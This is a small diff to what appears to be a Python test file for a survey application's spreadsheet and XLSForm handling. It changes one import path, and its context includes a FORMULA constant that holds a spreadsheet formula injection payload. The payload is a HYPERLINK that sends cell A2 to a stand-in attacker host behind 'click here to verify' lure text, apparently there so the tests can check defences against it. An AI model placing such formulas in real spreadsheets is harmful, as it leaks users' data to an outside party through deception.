@@ -20,7 +20,7 @@ from survey import companies, questionnaires, spreadsheets
 from survey import db as store
 from survey.auth import SYSTEM
 from survey.xlsform.loader import FormLoadError, load_xlsform
-from tests.conftest import ROOT, actor_for
+from tests.helpers import ROOT, actor_for
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2, "点此核验")'
 
